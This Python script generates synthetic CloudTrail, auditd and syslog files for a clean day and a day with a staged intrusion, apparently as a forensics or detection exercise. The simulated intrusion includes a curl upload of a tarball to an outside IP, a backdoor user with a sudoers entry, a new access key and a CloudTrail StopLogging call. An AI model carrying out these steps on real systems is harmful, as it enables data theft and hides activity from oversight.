#!/usr/bin/env python3
"""Writes demo/logs/ and demo/truth.yaml: one clean day and one day with an intrusion, composed from the formats' specifications.

Deterministic: the same bytes every time. Standard library only. Sources followed: AWS CloudTrail record contents, the audit
record types of linux/audit.h as auditd 3 writes them (enriched, with node), RFC 3164, RFC 5424, the messages of OpenSSH 9, sudo and shadow.
"""
import base64, datetime, gzip, hashlib, json, pathlib, random, shutil

HERE = pathlib.Path(__file__).resolve().parent
RANDOM = random.Random(20260304)
UTC = datetime.timezone.utc
CLEAN, INCIDENT = (datetime.datetime(2026, 3, d, tzinfo=UTC) for d in (3, 4))

ACCOUNT, VENDOR_ACCOUNT = "111122223333", "444455556666"
NAT, OFFICE, VENDOR = "192.0.2.10", "192.0.2.20", "192.0.2.130"
OUTSIDE_1, OUTSIDE_2 = "203.0.113.66", "198.51.100.77"
TRAIL = f"arn:aws:cloudtrail:eu-central-1:{ACCOUNT}:trail/org-trail"
KEY_CI, KEY_BACKUP, KEY_NEW = "AKIAEXAMPLECIDEPLOY1", "AKIAEXAMPLEBACKUPSV1", "AKIAEXAMPLEBACKUPSV2"


def at(day, text):
    """The time `HH:MM:SS` of a day."""
    h, m, s = (int(x) for x in text.split(":"))
    return day + datetime.timedelta(hours=h, minutes=m, seconds=s)


def later(t, seconds):
    return t + datetime.timedelta(seconds=seconds)


def fingerprint(name):
    """A key fingerprint as OpenSSH prints it, derived from a name."""
    return "SHA256:" + base64.b64encode(hashlib.sha256(name.encode()).digest()).decode().rstrip("=")


def uuid():
    h = "%032x" % RANDOM.getrandbits(128)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


KEYS = {name: fingerprint(name) for name in ("alice", "bob", "carol", "deploy", "id_db")}

# ---------------------------------------------------------------- CloudTrail

records = []  # (time, region, record)


def iam_user(name, key):
    return {"type": "IAMUser", "principalId": "AIDA" + hashlib.sha256(name.encode()).hexdigest()[:17].upper(),
            "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}", "accountId": ACCOUNT, "accessKeyId": key, "userName": name}


def role_session(role, session, key, created):
    principal = "AROA" + hashlib.sha256(role.encode()).hexdigest()[:17].upper()
    return {"type": "AssumedRole", "principalId": f"{principal}:{session}", "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}",
            "accountId": ACCOUNT, "accessKeyId": key,
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": principal, "arn": f"arn:aws:iam::{ACCOUNT}:role/{role}",
                                                 "accountId": ACCOUNT, "userName": role},
                               "attributes": {"creationDate": created.strftime("%Y-%m-%dT%H:%M:%SZ"), "mfaAuthenticated": "false"}}}


def api(t, who, ip, service, name, request=None, response=None, region="eu-central-1", read=True, data=False, resources=None, extra=None,
        error=None, agent="aws-cli/2.15.30 md/Botocore#1.34.50 ua/2.0 os/linux#6.1.0-18-amd64 lang/python#3.11.8"):
    """One record, unless the trail is stopped at that time."""
    stopped = at(INCIDENT, "10:02:00") < t < at(INCIDENT, "10:42:00")
    if stopped:
        return
    r = {"eventVersion": "1.09", "userIdentity": who, "eventTime": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": f"{service}.amazonaws.com",
         "eventName": name, "awsRegion": region, "sourceIPAddress": ip, "userAgent": agent}
    if error:
        r["errorCode"], r["errorMessage"] = error
    r |= {"requestParameters": request, "responseElements": response}
    if extra:
        r["additionalEventData"] = extra
    r |= {"requestID": uuid(), "eventID": uuid(), "readOnly": read}
    if resources:
        r["resources"] = resources
    r |= {"eventType": "AwsApiCall", "managementEvent": not data, "recipientAccountId": ACCOUNT, "eventCategory": "Data" if data else "Management"}
    records.append((t, region, r))


def bucket_resources(bucket, key=None):
    found = [{"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}]
    return ([{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{key}"}] if key else []) + found


def s3_list(t, who, ip, bucket, prefix=""):
    api(t, who, ip, "s3", "ListObjects", {"bucketName": bucket, "Host": f"{bucket}.s3.eu-central-1.amazonaws.com", "prefix": prefix},
        data=True, resources=bucket_resources(bucket), extra={"SignatureVersion": "SigV4", "bytesTransferredIn": 0, "bytesTransferredOut": RANDOM.randint(900, 9000)})


def s3_get(t, who, ip, bucket, key, size):
    api(t, who, ip, "s3", "GetObject", {"bucketName": bucket, "Host": f"{bucket}.s3.eu-central-1.amazonaws.com", "key": key},
        data=True, resources=bucket_resources(bucket, key), extra={"SignatureVersion": "SigV4", "bytesTransferredIn": 0, "bytesTransferredOut": size})


def s3_put(t, who, ip, bucket, key, size):
    api(t, who, ip, "s3", "PutObject", {"bucketName": bucket, "Host": f"{bucket}.s3.eu-central-1.amazonaws.com", "key": key}, read=False,
        data=True, resources=bucket_resources(bucket, key), extra={"SignatureVersion": "SigV4", "bytesTransferredIn": size, "bytesTransferredOut": 0})


def temporary_key():
    return "ASIAEXAMPLE" + "".join(RANDOM.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(9))


def assume(t, who, ip, role, session):
    """AssumeRole, and the identity that it hands out."""
    key = temporary_key()
    arn = f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}"
    principal = "AROA" + hashlib.sha256(role.encode()).hexdigest()[:17].upper()
    api(t, who, ip, "sts", "AssumeRole", {"roleArn": f"arn:aws:iam::{ACCOUNT}:role/{role}", "roleSessionName": session, "durationSeconds": 3600},
        {"credentials": {"accessKeyId": key, "sessionToken": "-", "expiration": later(t, 3600).strftime("%b %d, %Y, %I:%M:%S %p")},
         "assumedRoleUser": {"assumedRoleId": f"{principal}:{session}", "arn": arn}},
        resources=[{"accountId": ACCOUNT, "type": "AWS::IAM::Role", "ARN": f"arn:aws:iam::{ACCOUNT}:role/{role}"}])
    return role_session(role, session, key, t)


PARTS = [f"2026/02/customers-part-{i:02}.csv.gz" for i in range(6)]
EXPORTS_READ = PARTS  # the intruder reads all six


def cloud_day(day):
    ci, backup = iam_user("ci-deploy", KEY_CI), iam_user("backup-svc", KEY_BACKUP)
    alice, carol = iam_user("alice", "AKIAEXAMPLEALICE0001"), iam_user("carol", "AKIAEXAMPLECAROL0001")
    date = day.strftime("%Y-%m-%d")
    for hour in (7, 9, 11, 13, 15, 17):
        t = later(at(day, f"{hour:02}:20:00"), RANDOM.randint(0, 600))
        build = int(day.strftime("%d")) * 100 + hour
        api(t, ci, NAT, "sts", "GetCallerIdentity")
        runner = assume(later(t, 4), ci, NAT, "ci-runner", f"build-{build}")
        for step, name in enumerate(("app", "worker", "site")):
            s3_put(later(t, 40 + 9 * step), runner, NAT, "app-artifacts", f"{name}/build-{build}.tar.gz", RANDOM.randint(4_000_000, 9_000_000))
        api(later(t, 90), runner, NAT, "ecs", "UpdateService", {"cluster": "prod", "service": "app"}, {"service": {"serviceName": "app"}}, read=False)
    api(at(day, "02:00:03"), backup, NAT, "sts", "GetCallerIdentity")
    s3_put(at(day, "02:04:41"), backup, NAT, "db-backups", f"db-1/{date}.dump.gz", 812_331_904)
    s3_list(at(day, "02:05:02"), backup, NAT, "db-backups", "db-1/")
    exporter = carol
    for i, part in enumerate(PARTS):
        if day == CLEAN:
            s3_put(at(day, f"05:0{i}:12"), exporter, OFFICE, "customer-exports", part, 41_000_000 + i)
    vendor = {"type": "AWSAccount", "principalId": "AROAEXAMPLEACME00001:acme-etl", "accountId": VENDOR_ACCOUNT}
    reader = assume(at(day, "06:30:00"), vendor, VENDOR, "vendor-acme-read", "acme-nightly")
    s3_list(at(day, "06:30:04"), reader, VENDOR, "customer-exports", "2026/02/")
    for i, part in enumerate(PARTS[:3]):
        s3_get(at(day, f"06:3{1 + i}:10"), reader, VENDOR, "customer-exports", part, 41_000_000 + i)
    for start, who in (("08:05:00", alice), ("13:10:00", alice), ("08:40:00", carol), ("14:20:00", carol)):
        t = later(at(day, start), RANDOM.randint(0, 900))
        api(t, who, OFFICE, "sts", "GetCallerIdentity")
        api(later(t, 21), who, OFFICE, "ec2", "DescribeInstances", {"instancesSet": {}, "filterSet": {}})
        api(later(t, 65), who, OFFICE, "s3", "ListBuckets", {"Host": "s3.eu-central-1.amazonaws.com"})
        if who is carol:
            s3_list(later(t, 80), who, OFFICE, "customer-exports", "2026/02/")
            s3_get(later(t, 99), who, OFFICE, "customer-exports", PARTS[5], 41_000_005)
        else:
            s3_list(later(t, 80), who, OFFICE, "ops-secrets")
            api(later(t, 140), who, OFFICE, "iam", "ListAccessKeys", {"userName": "backup-svc"}, region="us-east-1")
    console = temporary_key()
    bob = iam_user("bob", console)
    t = later(at(day, "09:02:00"), RANDOM.randint(0, 600))
    no_key = {k: v for k, v in bob.items() if k != "accessKeyId"}
    api(t, no_key, OFFICE, "signin", "ConsoleLogin", None, {"ConsoleLogin": "Success"}, read=False, extra={"LoginTo": "https://console.aws.amazon.com/", "MobileVersion": "No", "MFAUsed": "Yes"},
        agent="Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0")
    for n, (service, name) in enumerate((("ec2", "DescribeInstances"), ("cloudtrail", "DescribeTrails"), ("iam", "ListUsers"), ("rds", "DescribeDBInstances"))):
        api(later(t, 30 + 40 * n), bob, OFFICE, service, name, region="us-east-1" if service == "iam" else "eu-central-1", agent="console.amazonaws.com")
    service = {"type": "AWSService", "invokedBy": "cloudtrail.amazonaws.com"}
    for hour in range(0, 24, 3):
        api(at(day, f"{hour:02}:17:00"), service, "cloudtrail.amazonaws.com", "s3", "GetBucketAcl", {"bucketName": "org-trail-logs"},
            resources=bucket_resources("org-trail-logs"), agent="cloudtrail.amazonaws.com")


def cloud_intrusion():
    t = lambda text: at(INCIDENT, text)
    ci, new = iam_user("ci-deploy", KEY_CI), iam_user("backup-svc", KEY_NEW)
    api(t("09:12:04"), ci, OUTSIDE_1, "sts", "GetCallerIdentity")
    api(t("09:12:31"), ci, OUTSIDE_1, "s3", "ListBuckets", {"Host": "s3.eu-central-1.amazonaws.com"})
    api(t("09:13:02"), ci, OUTSIDE_1, "iam", "ListUsers", region="us-east-1")
    s3_list(t("09:14:10"), ci, OUTSIDE_1, "customer-exports")
    for i, part in enumerate(EXPORTS_READ):
        s3_get(t(f"09:{15 + i}:20"), ci, OUTSIDE_1, "customer-exports", part, 41_000_000 + i)
    s3_list(t("09:24:40"), ci, OUTSIDE_1, "ops-secrets")
    s3_get(t("09:25:12"), ci, OUTSIDE_1, "ops-secrets", "bastion/deploy_ed25519", 419)
    api(t("09:33:50"), ci, OUTSIDE_1, "iam", "AttachUserPolicy", {"userName": "ci-deploy", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, region="us-east-1", read=False,
        error=("AccessDenied", f"User: arn:aws:iam::{ACCOUNT}:user/ci-deploy is not authorized to perform: iam:AttachUserPolicy on resource: user ci-deploy"))
    api(t("09:41:15"), ci, OUTSIDE_1, "iam", "CreateAccessKey", {"userName": "backup-svc"},
        {"accessKey": {"userName": "backup-svc", "accessKeyId": KEY_NEW, "status": "Active", "createDate": "Mar 4, 2026, 9:41:15 AM"}}, region="us-east-1", read=False)
    api(t("09:47:30"), new, OUTSIDE_2, "sts", "GetCallerIdentity")
    s3_list(t("09:50:11"), new, OUTSIDE_2, "db-backups", "db-1/")
    s3_get(t("09:51:37"), new, OUTSIDE_2, "db-backups", "db-1/2026-03-03.dump.gz", 812_331_904)
    api(t("10:02:00"), new, OUTSIDE_2, "cloudtrail", "StopLogging", {"name": TRAIL}, read=False)
    api(t("10:42:00"), new, OUTSIDE_2, "cloudtrail", "StartLogging", {"name": TRAIL}, read=False)
    api(t("11:05:19"), new, OUTSIDE_2, "iam", "ListUsers", region="us-east-1")


# ---------------------------------------------------------------- Machines

UIDS = {"root": 0, "alice": 1001, "bob": 1002, "deploy": 1003, "postgres": 114, "support2": 1012}
UNSET = 4294967295


class Host:
    def __init__(self, name, address, style, audited, pid):
        self.name, self.address, self.style, self.audited = name, address, style, audited
        self.pid, self.ses, self.lines, self.audits = pid, 100, [], []

    def next_pid(self):
        self.pid += RANDOM.randint(1, 9)
        return self.pid

    def say(self, t, program, pid, text, priority=86):
        tag = f"{program}[{pid}]" if pid else program
        if self.style == "3164":
            line = f"{t.strftime('%b')} {t.day:2} {t.strftime('%H:%M:%S')} {self.name} {tag}: {text}"
        elif self.style == "iso":
            line = f"{t.strftime('%Y-%m-%dT%H:%M:%S.%f')}+00:00 {self.name} {tag}: {text}"
        else:
            line = f"<{priority}>1 {t.strftime('%Y-%m-%dT%H:%M:%S.%f')}Z {self.name} {program} {pid or '-'} - - {text}"
        self.lines.append((t, line))

    def audit(self, t, *parts):
        """One audit event: its records, each `(type, text, enrichment)`."""
        if self.audited:
            self.audits.append((t, parts))

    def user_event(self, t, kind, pid, uid, auid, ses, message, more=""):
        ids = f"pid={pid} uid={uid} auid={auid} ses={ses} subj=unconfined msg='{message}'"
        self.audit(t, (kind, ids, f'UID="{name_of(uid)}" AUID="{name_of(auid)}"{more}'))

    def login(self, t, user, ip, key, port=None):
        return Login(self, t, user, ip, key, port or RANDOM.randint(32000, 60900))

    def failed(self, t, user, ip, valid):
        pid, port = self.next_pid(), RANDOM.randint(32000, 60900)
        self.say(t, "sshd", pid, f"Connection from {ip} port {port} on {self.address} port 22 rdomain \"\"")
        if not valid:
            self.say(later(t, 1), "sshd", pid, f"Invalid user {user} from {ip} port {port}")
        self.say(later(t, 2), "sshd", pid, f"Failed password for {'' if valid else 'invalid user '}{user} from {ip} port {port} ssh2")
        self.say(later(t, 3), "sshd", pid, f"Connection closed by {'authenticating' if valid else 'invalid'} user {user} {ip} port {port} [preauth]")
        acct = f'acct="{user}"' if valid else f"acct={user.encode().hex().upper()}"
        self.user_event(later(t, 2), "USER_LOGIN", pid, 0, UNSET, UNSET, f'op=login {acct} exe="/usr/sbin/sshd" hostname=? addr={ip} terminal=sshd res=failed')

    def cron(self, t, user, command, argv, connects=()):
        pid, self.ses = self.next_pid(), self.ses + 1
        uid = UIDS[user]
        self.say(t, "CRON", pid, f"pam_unix(cron:session): session opened for user {user}(uid={uid}) by (uid=0)")
        self.say(later(t, 0.2), "CRON", pid + 1, f"({user}) CMD ({command})", 78)
        self.audit(t, ("LOGIN", f"pid={pid} uid=0 subj=unconfined old-auid={UNSET} auid={uid} tty=(none) old-ses={UNSET} ses={self.ses} res=1",
                       f'UID="root" OLD-AUID="unset" AUID="{user}"'))
        self.user_event(t, "USER_START", pid, 0, uid, self.ses, f'op=PAM:session_open grantors=pam_loginuid,pam_env,pam_unix acct="{user}" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success')
        run = self.next_pid()
        self.exec(later(t, 0.3), run, pid + 1, uid, uid, self.ses, argv)
        for n, (ip, port) in enumerate(connects):
            self.connect(later(t, 2 + n), run, pid + 1, uid, uid, self.ses, argv[0], ip, port)
        end = later(t, 9)
        self.say(end, "CRON", pid, f"pam_unix(cron:session): session closed for user {user}")
        self.user_event(end, "USER_END", pid, 0, uid, self.ses, f'op=PAM:session_close grantors=pam_loginuid,pam_env,pam_unix acct="{user}" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success')

    def syscall(self, name, number, success, exit_code, items, ppid, pid, auid, uid, ses, exe, key, args="a0=5581 a1=5582 a2=5583 a3=8"):
        comm, tty = exe.rsplit("/", 1)[-1][:15], "pts1" if ses != UNSET else "(none)"
        text = (f"arch=c000003e syscall={number} success={success} exit={exit_code} {args} items={items} ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} "
                f"euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} ses={ses} comm=\"{comm}\" exe=\"{exe}\" subj=unconfined key=\"{key}\"")
        who = name_of(uid)
        more = " ".join(f'{k}="{who}"' for k in ("UID", "GID", "EUID", "SUID", "FSUID", "EGID", "SGID", "FSGID"))
        return ("SYSCALL", text, f'ARCH=x86_64 SYSCALL={name} AUID="{name_of(auid)}" {more}')

    def exec(self, t, pid, ppid, auid, uid, ses, argv, cwd="/"):
        exe = argv[0]
        args = " ".join(f"a{i}={quoted(a)}" for i, a in enumerate(argv))
        path = 'dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'
        own = 'OUID="root" OGID="root"'
        self.audit(t, self.syscall("execve", 59, "yes", 0, 2, ppid, pid, auid, uid, ses, exe, "exec"),
                   ("EXECVE", f"argc={len(argv)} {args}", None), ("CWD", f"cwd={quoted(cwd)}", None),
                   ("PATH", f"item=0 name={quoted(exe)} inode={inode(exe)} {path}", own),
                   ("PATH", f'item=1 name="/lib64/ld-linux-x86-64.so.2" inode=3981 {path}', own), ("PROCTITLE", f"proctitle={proctitle(argv)}", None))

    def connect(self, t, pid, ppid, auid, uid, ses, exe, ip, port, blocking=True):
        saddr = "0200%04X%s0000000000000000" % (port, "".join("%02X" % int(p) for p in ip.split(".")))
        success, code = ("yes", 0) if blocking else ("no", -115)
        self.audit(t, self.syscall("connect", 42, success, code, 0, ppid, pid, auid, uid, ses, exe, "net", "a0=3 a1=55d0 a2=10 a3=0"),
                   ("SOCKADDR", f"saddr={saddr}", f"SADDR={{ saddr_fam=inet laddr={ip} lport={port} }}"), ("PROCTITLE", f"proctitle={proctitle([exe])}", None))

    def open(self, t, pid, ppid, auid, uid, ses, exe, path, key, write):
        flags, kind = ("241", "CREATE") if write else ("0", "NORMAL")
        self.audit(t, self.syscall("openat", 257, "yes", 3, 1, ppid, pid, auid, uid, ses, exe, key, f"a0=ffffff9c a1=7ffc a2={flags} a3=1b6"),
                   ("CWD", 'cwd="/root"', None),
                   ("PATH", f"item=0 name={quoted(path)} inode={inode(path)} dev=fe:01 mode=0100600 ouid={uid} ogid={uid} rdev=00:00 nametype={kind} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
                    f'OUID="{name_of(uid)}" OGID="{name_of(uid)}"'), ("PROCTITLE", f"proctitle={proctitle([exe, path])}", None))

    def text(self):
        return "".join(line + "\n" for _, line in sorted(self.lines, key=lambda x: x[0]))

    def audit_text(self):
        out, serial = [], 40_000 + len(self.name)
        for t, parts in sorted(self.audits, key=lambda x: x[0]):
            serial += RANDOM.randint(1, 3)
            stamp = f"audit({t.timestamp():.3f}:{serial})"
            for kind, text, enriched in parts:
                out.append(f"node={self.name} type={kind} msg={stamp}: {text}" + (f"\x1d{enriched}" if enriched else "") + "\n")
        return "".join(out)


def name_of(uid):
    return "unset" if uid == UNSET else next(n for n, u in UIDS.items() if u == uid)


def quoted(text):
    return f'"{text}"' if all(33 <= ord(c) < 127 and c != '"' for c in text) else text.encode().hex().upper()


def proctitle(argv):
    return quoted(argv[0]) if len(argv) == 1 else "\0".join(argv).encode().hex().upper()


def inode(path):
    return int(hashlib.sha256(path.encode()).hexdigest()[:5], 16)


class Login:
    """An ssh login with its sshd process, its audit session and its shell."""

    def __init__(self, host, t, user, ip, key, port):
        self.host, self.user, self.ip, self.port, self.key = host, user, ip, port, key
        self.uid, self.sshd = UIDS[user], host.next_pid()
        host.ses += 1
        self.ses = host.ses
        say = lambda s, text: host.say(later(t, s), "sshd", self.sshd, text)
        say(-0.4, f"Connection from {ip} port {port} on {host.address} port 22 rdomain \"\"")
        say(0, f"Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 {key}")
        say(0.1, f"pam_unix(sshd:session): session opened for user {user}(uid={self.uid}) by (uid=0)")
        host.say(later(t, 0.2), "systemd-logind", 612, f"New session {self.ses} of user {user}.", 38)
        sshd = f'exe="/usr/sbin/sshd" hostname={ip} addr={ip} terminal=ssh res=success'
        host.user_event(later(t, 0.02), "USER_ACCT", self.sshd, 0, UNSET, UNSET, f'op=PAM:accounting grantors=pam_permit acct="{user}" {sshd}')
        host.user_event(later(t, 0.03), "CRED_ACQ", self.sshd, 0, UNSET, UNSET, f'op=PAM:setcred grantors=pam_permit acct="{user}" {sshd}')
        host.audit(later(t, 0.04), ("LOGIN", f"pid={self.sshd} uid=0 subj=unconfined old-auid={UNSET} auid={self.uid} tty=(none) old-ses={UNSET} ses={self.ses} res=1",
                                    f'UID="root" OLD-AUID="unset" AUID="{user}"'))
        host.user_event(later(t, 0.1), "USER_START", self.sshd, 0, self.uid, self.ses, f'op=PAM:session_open grantors=pam_loginuid,pam_limits,pam_unix acct="{user}" {sshd}')
        host.user_event(later(t, 0.12), "USER_LOGIN", self.sshd, 0, self.uid, self.ses, f'op=login id={self.uid} exe="/usr/sbin/sshd" hostname={ip} addr={ip} terminal=/dev/pts/1 res=success', f' ID="{user}"')
        self.shell = host.next_pid()
        host.exec(later(t, 0.3), self.shell, self.sshd, self.uid, self.uid, self.ses, ["/bin/bash"], f"/home/{user}")

    def run(self, t, argv, uid=None, ppid=None):
        pid = self.host.next_pid()
        self.host.exec(t, pid, ppid or self.shell, self.uid, self.uid if uid is None else uid, self.ses, argv, f"/home/{self.user}")
        return pid

    def connect(self, t, pid, exe, ip, port, uid=None, blocking=True):
        self.host.connect(t, pid, self.shell, self.uid, self.uid if uid is None else uid, self.ses, exe, ip, port, blocking)

    def open(self, t, pid, exe, path, key, write, uid=None):
        self.host.open(t, pid, self.shell, self.uid, self.uid if uid is None else uid, self.ses, exe, path, key, write)

    def ssh(self, t, other, user=None, key=None):
        """ssh to another host: the process, its connection, and the login there."""
        pid = self.run(t, ["/usr/bin/ssh", *([f"-i", f"/home/{self.user}/.ssh/id_db"] if key == KEYS["id_db"] else []), other.name])
        self.connect(later(t, 0.4), pid, "/usr/bin/ssh", other.address, 22)
        return other.login(later(t, 1.2), user or self.user, self.host.address, key or self.key)

    def sudo(self, t, argv, seconds):
        """sudo to root: its log line, its audit records, and the command as root."""
        host, command = self.host, " ".join(argv)
        pid = self.run(t, ["/usr/bin/sudo", *argv])
        host.say(later(t, 0.2), "sudo", None, f"{self.user:>8} : TTY=pts/1 ; PWD=/home/{self.user} ; USER=root ; COMMAND={command}", 85)
        host.say(later(t, 0.3), "sudo", None, f"pam_unix(sudo:session): session opened for user root(uid=0) by {self.user}(uid={self.uid})")
        tail = 'exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/1 res=success'
        host.user_event(later(t, 0.1), "USER_ACCT", pid, self.uid, self.uid, self.ses, f'op=PAM:accounting grantors=pam_permit acct="{self.user}" {tail}')
        host.user_event(later(t, 0.2), "USER_CMD", pid, self.uid, self.uid, self.ses, f'cwd="/home/{self.user}" cmd={quoted(command)} exe="/usr/bin/sudo" terminal=pts/1 res=success')
        host.user_event(later(t, 0.3), "USER_START", pid, 0, self.uid, self.ses, f'op=PAM:session_open grantors=pam_limits,pam_unix acct="root" {tail}')
        child = self.run(later(t, 0.4), argv, 0, pid)
        host.say(later(t, seconds), "sudo", None, "pam_unix(sudo:session): session closed for user root")
        host.user_event(later(t, seconds), "USER_END", pid, 0, self.uid, self.ses, f'op=PAM:session_close grantors=pam_limits,pam_unix acct="root" {tail}')
        return child

    def close(self, t):
        host = self.host
        host.say(t, "sshd", self.sshd, f"Received disconnect from {self.ip} port {self.port}:11: disconnected by user")
        host.say(later(t, 0.01), "sshd", self.sshd, f"Disconnected from user {self.user} {self.ip} port {self.port}")
        host.say(later(t, 0.02), "sshd", self.sshd, f"pam_unix(sshd:session): session closed for user {self.user}")
        host.say(later(t, 0.1), "systemd-logind", 612, f"Session {self.ses} logged out. Waiting for processes to exit.", 38)
        sshd = f'exe="/usr/sbin/sshd" hostname={self.ip} addr={self.ip} terminal=ssh res=success'
        host.user_event(later(t, 0.02), "USER_END", self.sshd, 0, self.uid, self.ses, f'op=PAM:session_close grantors=pam_loginuid,pam_limits,pam_unix acct="{self.user}" {sshd}')


bastion = Host("bastion-1", "10.20.1.10", "3164", True, 1840)
db = Host("db-1", "10.20.2.20", "iso", True, 2210)
web = Host("web-1", "10.20.3.15", "5424", False, 3020)


def host_day(day):
    t = lambda text: later(at(day, text), RANDOM.randint(0, 240) + RANDOM.random())
    for hour in range(24):
        for host in (bastion, db, web):
            host.cron(at(day, f"{hour:02}:17:01"), "root", "cd / && run-parts --report /etc/cron.hourly", ["/bin/run-parts", "--report", "/etc/cron.hourly"])
    db.cron(at(day, "02:00:01"), "postgres", "/usr/local/bin/backup-db", ["/usr/local/bin/backup-db"], [("10.20.0.50", 443)])
    for host in (bastion, web):
        for _ in range(14):
            when = later(at(day, "00:00:00"), RANDOM.randint(0, 85_000))
            ip = f"198.51.100.{RANDOM.choice((201, 202, 207, 219))}"
            user, valid = RANDOM.choice((("root", True), ("admin", False), ("oracle", False), ("test", False), ("ubuntu", False)))
            host.failed(when, user, ip, valid)
    for start, user in (("08:10:00", "alice"), ("11:20:00", "bob"), ("15:30:00", "alice")):
        begin = t(start)
        login = bastion.login(begin, user, OFFICE, KEYS[user])
        login.run(later(begin, 9), ["/usr/bin/uptime"])
        on_db = login.ssh(later(begin, 60), db)
        on_db.run(later(begin, 75), ["/usr/bin/psql", "-c", "select count(*) from orders"])
        on_db.sudo(later(begin, 120), ["/usr/bin/systemctl", "status", "postgresql"], 2)
        on_db.close(later(begin, 200))
        if user == "bob":
            on_web = login.ssh(later(begin, 260), web)
            on_web.sudo(later(begin, 300), ["/usr/bin/apt-get", "-y", "upgrade"], 90)
            on_web.close(later(begin, 420))
        login.close(later(begin, 500))
    for start in ("07:31:00", "11:31:00", "15:31:00"):
        begin = t(start)
        deploy = web.login(begin, "deploy", "10.20.3.30", KEYS["deploy"])
        deploy.sudo(later(begin, 4), ["/usr/bin/systemctl", "restart", "app"], 3)
        deploy.close(later(begin, 12))
    # A package run by the system itself: no login, so audit's session is unset.
    begin = t("06:10:00")
    apt = bastion.next_pid()
    bastion.exec(begin, apt, 1, UNSET, 0, UNSET, ["/usr/bin/apt-get", "-qq", "update"])
    bastion.connect(later(begin, 1), apt, 1, UNSET, 0, UNSET, "/usr/lib/apt/methods/http", "192.0.2.80", 80, blocking=False)


def host_intrusion():
    """The same day's intruder on the machines; gives back what the truth must name."""
    t = lambda text: at(INCIDENT, text)
    one = bastion.login(t("10:08:21"), "deploy", OUTSIDE_1, KEYS["deploy"], 51514)
    one.run(t("10:08:40"), ["/usr/bin/id"])
    one.run(t("10:09:02"), ["/bin/ls", "-la", "/home/deploy/.ssh"])
    cat = one.run(t("10:09:20"), ["/bin/cat", "/home/deploy/.ssh/id_db"])
    one.open(later(t("10:09:20"), 0.05), cat, "/bin/cat", "/home/deploy/.ssh/id_db", "keys", False)
    tried = one.run(t("10:11:40"), ["/usr/bin/ssh", "-i", "/home/deploy/.ssh/id_db", "web-1"])
    one.connect(later(t("10:11:40"), 0.4), tried, "/usr/bin/ssh", web.address, 22)
    pid, port = web.next_pid(), 40218
    web.say(later(t("10:11:40"), 0.5), "sshd", pid, f"Connection from {bastion.address} port {port} on {web.address} port 22 rdomain \"\"")
    web.say(later(t("10:11:40"), 1.1), "sshd", pid, f"Failed publickey for deploy from {bastion.address} port {port} ssh2: ED25519 {KEYS['id_db']}")
    web.say(later(t("10:11:40"), 1.6), "sshd", pid, f"Connection closed by authenticating user deploy {bastion.address} port {port} [preauth]")
    two = one.ssh(t("10:15:02"), db, "deploy", KEYS["id_db"])
    root = two.sudo(t("10:16:30"), ["/bin/bash"], 840)
    add = two.run(t("10:19:12"), ["/usr/sbin/useradd", "-m", "-s", "/bin/bash", "support2"], 0, root)
    db.say(later(t("10:19:12"), 0.2), "useradd", add, "new user: name=support2, UID=1012, GID=1012, home=/home/support2, shell=/bin/bash, from=/dev/pts/1")
    db.user_event(later(t("10:19:12"), 0.2), "ADD_USER", add, 0, two.uid, two.ses, 'op=add-user acct="support2" exe="/usr/sbin/useradd" hostname=db-1 addr=? terminal=pts/1 res=success')
    tee = two.run(t("10:20:05"), ["/usr/bin/tee", "/etc/sudoers.d/support2"], 0, root)
    two.open(later(t("10:20:05"), 0.05), tee, "/usr/bin/tee", "/etc/sudoers.d/support2", "sudoers", True, 0)
    two.run(t("10:24:00"), ["/bin/tar", "czf", "/tmp/.x.tgz", "/srv/exports"], 0, root)
    curl = two.run(t("10:26:44"), ["/usr/bin/curl", "-sT", "/tmp/.x.tgz", f"https://{OUTSIDE_2}/u"], 0, root)
    two.connect(later(t("10:26:44"), 0.3), curl, "/usr/bin/curl", OUTSIDE_2, 443, 0, blocking=False)
    two.close(t("10:31:10"))
    one.close(t("10:33:00"))
    return one, two

# ---------------------------------------------------------------- Truth


def truth(one, two):
    """The intrusion as nodes and hops. A hop names every source that tells of it."""
    cloud, iam = f"cloudtrail/{ACCOUNT}/eu-central-1", f"cloudtrail/{ACCOUNT}/us-east-1"
    b_sys, b_run, d_sys, d_run, w_sys = "bastion-1/auth.log", "bastion-1/audit/audit.log", "db-1/auth.log", "db-1/audit/audit.log", "web-1/auth.log"
    ip1, ip2 = f"ip:{OUTSIDE_1}", f"ip:{OUTSIDE_2}"
    ci, new = f"credential:{KEY_CI}", f"credential:{KEY_NEW}"
    ci_user, backup = f"user:arn:aws:iam::{ACCOUNT}:user/ci-deploy", f"user:arn:aws:iam::{ACCOUNT}:user/backup-svc"
    stolen, second = f"credential:{KEYS['deploy']}", f"credential:{KEYS['id_db']}"
    b_sshd, b_ses = f"session:bastion-1/sshd:{one.sshd}", f"session:bastion-1/{one.ses}"
    d_sshd, d_ses = f"session:db-1/sshd:{two.sshd}", f"session:db-1/{two.ses}"
    s3 = "resource:arn:aws:s3:::"
    exports, secrets, backups = s3 + "customer-exports", s3 + "ops-secrets", s3 + "db-backups"
    ssh_key, dump = secrets + "/bastion/deploy_ed25519", backups + "/db-1/2026-03-03.dump.gz"
